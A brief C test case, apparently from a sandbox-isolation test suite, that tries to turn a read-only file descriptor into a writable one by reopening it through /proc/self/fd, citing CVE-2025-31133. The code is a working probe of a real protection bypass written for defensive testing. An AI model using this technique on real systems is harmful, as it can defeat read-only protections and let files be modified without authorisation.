/* The same file opened again through /proc, for writing. */
#include "../attack.h"

#include <fcntl.h>

ATTACK(FILES, "sources", .gain = "a writable descriptor from a read-only one",
       .source = "CVE-2025-31133", .works = OUTSIDE)
{
	char path[512];
	int fd;

	snprintf(path, sizeof(path), "%s/file", target("read"));
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY | O_CLOEXEC);
}
